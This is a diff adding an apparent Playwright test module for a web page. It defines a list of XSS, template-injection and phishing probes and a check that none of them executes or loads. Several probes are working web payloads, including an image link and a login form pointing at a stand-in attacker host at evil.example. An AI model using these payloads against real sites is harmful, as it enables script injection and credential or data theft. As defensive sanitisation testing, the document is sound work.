@@ -1,0 +1,47 @@
+"""Texts that would run a script, load something or break out, if anything but their text was used.
+
+`quiet(page)` has the page note it; `check_quiet(page)` says that nothing of the kind happened.
+"""
+
+from typing import Final
+
+from playwright.async_api import Page
+
+FOREIGN: Final = "https://evil.example"
+PROBES: Final = (
+    "<script>window.pwned=1</script>",
+    "<img src=x onerror='window.pwned=1'>",
+    f"![steal]({FOREIGN}/pixel.png?secret=1)",
+    "[click](javascript:window.pwned=1)",
+    f"<svg onload=window.pwned=1><image href='{FOREIGN}/x.svg'></svg>",
+    f"<iframe src='{FOREIGN}'></iframe><object data='{FOREIGN}'></object>",
+    "<a href='data:text/html,<script>window.pwned=1</script>'>data</a>",
+    f"<style>@import '{FOREIGN}/x.css';body{{display:none}}</style>",
+    f"<form action='{FOREIGN}'><input name=key><button>Log in</button></form>",
+    f"<base href='{FOREIGN}/'><meta http-equiv=refresh content='0;url={FOREIGN}'>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x "
+    "onerror=window.pwned=1&gt;'>",
+    "</script></textarea></title>\"'><b id=main onclick=window.pwned=1>",
+    "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1}",
+    "\u202etxt.exe\u202c \u0000 \ufeff",
+)
+ALL: Final = "\n\n".join(PROBES)
+
+
+async def check_quiet(page: Page) -> None:
+    """None of the probes did what it would."""
+    assert await page.evaluate("window.pwned") is None
+    for tag in ("iframe", "object", "embed", "base", "main form input[name=key]", "main style",
+                "main img", "main script:not([src^='/ui/'])", "main svg image"):  # fmt: skip
+        assert await page.locator(tag).count() == 0, tag
+    for link in await page.locator("main a[href]").all():
+        href = await link.get_attribute("href")
+        assert href is not None
+        assert href.startswith(("http://", "https://", "mailto:", "/", "#")), href
+    handlers = await page.evaluate(
+        "[...document.querySelectorAll('*')].flatMap(e => e.getAttributeNames())"
+        ".filter(name => name.startsWith('on'))"
+    )
+    assert handlers == []
+    assert await page.locator("#main").count() == 1
+    assert await page.locator("body").is_visible()
